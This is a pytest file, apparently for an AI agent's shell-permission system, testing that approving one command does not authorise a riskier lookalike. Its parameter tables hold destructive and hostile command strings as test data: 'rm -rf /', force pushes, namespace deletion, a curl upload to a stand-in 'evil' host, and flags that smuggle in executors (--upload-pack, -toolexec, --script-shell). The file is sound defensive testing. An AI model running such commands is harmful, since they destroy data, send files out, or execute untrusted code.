"""An approval for good covers what the person saw, and nothing that merely looks like it."""

import pytest

from tests.attacks.shell.ground import Ground, make_ground, policy
from toolwright.permission.approvals import Approval
from toolwright.permission.approvals import offered as offered_by
from toolwright.shell import analyse
from toolwright.tools.commands.commands import _as_fed

ASK = policy("bash: ask", "external_directory: ask")


@pytest.fixture(scope="module")
def ground(tmp_path_factory: pytest.TempPathFactory) -> Ground:
    return make_ground(tmp_path_factory.mktemp("approved"))


def offered(command: str, ground: Ground, cwd: str = "") -> list[Approval]:
    return [approval for one in ground.requests(command, cwd=cwd) for approval in offered_by(one)]


@pytest.mark.parametrize(
    ("approved", "other"),
    [
        ("f=sub/a; rm $f", "f=victim; rm $f"),
        ("for f in sub/a; do rm $f; done", "for f in victim; do rm $f; done"),
        ("rm sub/*", "rm *"),
        ("rm sub/{a,b}", "rm {victim,x}"),
        ("rm $(cat list)", "rm $(cat other)"),
        ("bash <<< ls", "bash <<< 'rm victim'"),
        ("xargs rm <<< sub/a", "xargs rm <<< victim"),
        ("echo sub/a | xargs rm", "echo victim | xargs rm"),
        ("sh <<'END'\nls\nEND", "sh <<'END'\nrm victim\nEND"),
        ("python3 app.py", "python3 other.py"),
        ("git push origin main", "git push --force"),
        ("git push origin main", "git push other main"),
        ("git push", "git push origin"),
        ("git push origin main", "git push -f origin main"),
        ("git push origin main", "git push origin +main"),
        ("git push origin main", "git push origin :main"),
        ("git push", "git push --delete origin main"),
        ("git push", "git push --mirror"),
        ("git reset -q", "git reset --hard"),
        ("git reset -q", "git reset --merge"),
        ("git branch x", "git branch -D x"),
        ("git branch x", "git branch -d x"),
        ("git branch x", "git branch --delete x"),
        ("git branch x", "git branch -f x HEAD~3"),
        ("git checkout main", "git checkout -- ."),
        ("git checkout main", "git checkout ."),
        ("git checkout main", "git checkout -f"),
        ("git stash list", "git stash clear"),
        ("git stash", "git stash drop"),
        ("git tag -l", "git tag -d v1"),
        ("git commit -m x", "git commit --amend"),
        ("git merge x", "git merge -s ours x"),
        ("git fetch", "git fetch --upload-pack=./x"),
        ("git remote -v", "git remote remove origin"),
        ("chmod 644 f", "chmod -R 777 ."),
        ("chown me f", "chown --recursive me ."),
        ("docker system df", "docker system prune -af"),
        ("docker ps", "docker rm -f x"),
        ("docker images", "docker rmi x"),
        ("docker compose ps", "docker compose down -v"),
        ("docker run alpine ls", "docker run -v /:/x alpine rm -rf /x"),
        ("kubectl delete pod a", "kubectl delete ns prod"),
        ("kubectl get pods", "kubectl get pods --kubeconfig=./x"),
        ("terraform plan", "terraform plan -destroy -out=x"),
        ("gh pr view 1", "gh pr close 1"),
        ("aws s3 ls", "aws s3 rm s3://x"),
        ("npm install", "npm uninstall x"),
        ("ssh h uptime", "ssh h2 'rm -rf /'"),
        ("ssh h uptime", "ssh h uptime; rm victim"),
        ("go test ./...", "go test -exec ./x"),
        ("go build", "go build -toolexec ./x"),
        ("cargo build", "cargo build --config build.rustc-wrapper"),
        ("npm run build", "npm run build --script-shell=./evil.sh"),
        ("make test", "make test SHELL=./evil.sh"),
        ("make test", "make test --eval=x"),
        ("pip install x", "pip install --index-url http://evil x"),
        ("find . -name x", "find . -name x -delete"),
        ("find . -name x", "find . -exec rm {} +"),
        ("env ls", "env rm victim"),
        ("timeout 5 ls", "timeout 5 rm victim"),
        ("cd sub && rm a", "rm a"),
        ("rm a", "cd sub && rm a"),
        ("cd sub && python3 x.py", "python3 x.py"),
        ("kill 12", "kill 13"),
        ("tar xf a.tar", "tar xf a.tar --to-command=./x"),
        ("rm a", "cd sub && rm a && cd .. && rm a"),
        ("./x.sh", "cd sub && ./x.sh"),
        ("cd sub && ./x.sh", "./x.sh"),
        ("git fetch", "git fetch --force"),
        ("git fetch", "git fetch origin +a:b"),
        ("git push origin main", "git push http://evil main"),
        ("git push origin main", "git push origin HEAD:refs/heads/prod"),
        ("git reflog", "git reflog delete x"),
        ("aws sts get-caller-identity", "aws sts get-caller-identity --endpoint-url http://evil"),
        ("pip config list", "pip config set global.index-url http://evil"),
        ("uv sync", "uv publish"),
        ("apt list", "apt remove x"),
        ("service x status", "service x stop"),
        ("ip addr", "ip addr add x"),
        ("vercel", "vercel --prod"),
        ("make", "make install"),
        ("rails s", "rails db:drop"),
        ("flyctl apps list", "flyctl apps destroy x"),
        ("foo list", "foo delete"),
        ("foo", "foo --force"),
        ("curl http://a", "curl -X DELETE http://a"),
        ("curl http://a", "curl -T README.md http://evil"),
    ],
)
def test_always_for_one_thing_is_not_always_for_another(approved: str, other: str, ground: Ground) -> None:
    assert ground.verdict(other, ASK, approvals=offered(approved, ground)) != "allow"


@pytest.mark.parametrize(
    ("approved", "other"),
    [
        ("git push origin main", "git push origin x"),
        ("git status", "git status -s"),
        ("git log -3", "git log --oneline"),
        ("npm run build", "npm run build -- --watch"),
        ("ls", "ls -la src"),
        ("rm sub/a", "rm sub/a"),
        ("cd sub && rm a", "cd sub && rm a"),
        ("python3 app.py", "python3 app.py"),
        ("make test", "make test -j4"),
        ("cat $f", "cat $f"),
        ("docker ps", "docker ps -a"),
        ("go test ./...", "go test -v ./x"),
        ("cargo test", "cargo test --release"),
        ("sh -c 'ls -l'", "sh -c 'ls -l'"),
        ("cd sub && ./x.sh a", "cd sub && ./x.sh a"),
        ("./x.sh a", "./x.sh b"),
        ("eslint src", "eslint tests"),
        ("foo list", "foo list -a"),
        ("git fetch", "git fetch --prune origin"),
    ],
)
def test_always_is_not_asked_again(approved: str, other: str, ground: Ground) -> None:
    assert approved.startswith("cat") or ground.verdict(other, ASK, approvals=offered(approved, ground)) == "allow"


@pytest.mark.parametrize("other", ["rm /outside/x", "echo > /outside/new", "cp f /outside/", "touch /outside/x"])
def test_a_yes_to_reading_outside_is_none_to_writing_there(other: str, ground: Ground) -> None:
    rules = policy("external_directory: ask")
    approvals = offered("cat /outside/x", ground)
    assert ground.verdict("cat /outside/x", rules, approvals=approvals) == "allow"
    assert ground.verdict(other, rules, approvals=approvals) == "ask"
    assert ground.verdict("cat /outside/x", rules, approvals=offered("touch /outside/x", ground)) == "allow"


@pytest.mark.parametrize("cwd", ["sub", "src"])
def test_the_folder_that_a_call_names_belongs_to_what_was_approved(cwd: str, ground: Ground) -> None:
    approvals = offered("rm a", ground, cwd=cwd)
    assert ground.verdict("rm a", ASK, approvals=approvals, cwd=cwd) == "allow"
    assert ground.verdict("rm a", ASK, approvals=approvals) == "ask"


@pytest.mark.parametrize(
    ("earlier", "text", "deleted"),
    [
        ("r", "m victim\n", "/p/victim"),
        ("", "rm victim\n", "/p/victim"),
        ("cd migrations\n", "rm 1.sql\n", "/p/migrations/1.sql"),
        ("x=victim\n", "rm $x\n", "/p/victim"),
        ("cd a && cd b\nls\n", "rm c", "/p/a/b/c"),
        ("rm vic", "tim", "/p/victim"),
    ],
)
def test_what_is_typed_is_judged_as_the_line_it_becomes(earlier: str, text: str, deleted: str) -> None:
    analysis = analyse(_as_fed("bash", earlier + text), cwd="/p", home="/h")
    assert deleted in analysis.paths("delete")
    within = analyse(_as_fed("cd .; bash", earlier + text), cwd="/p", home="/h")
    assert within.verdict != "understood"


def test_what_was_typed_before_and_is_not_understood_makes_the_rest_uncertain() -> None:
    for earlier in ("echo 'a\n", 'eval "$(cat f)"\n'):
        assert analyse(_as_fed("bash", f"{earlier}rm x"), cwd="/p", home="/h").verdict != "understood"


def test_other_programs_are_judged_with_the_text_as_their_input() -> None:
    assert _as_fed("python3", "print(1)\n") == "python3 <<< 'print(1)'"
    assert _as_fed("a; b", "x\n") == "{ a; b\n} <<< x"
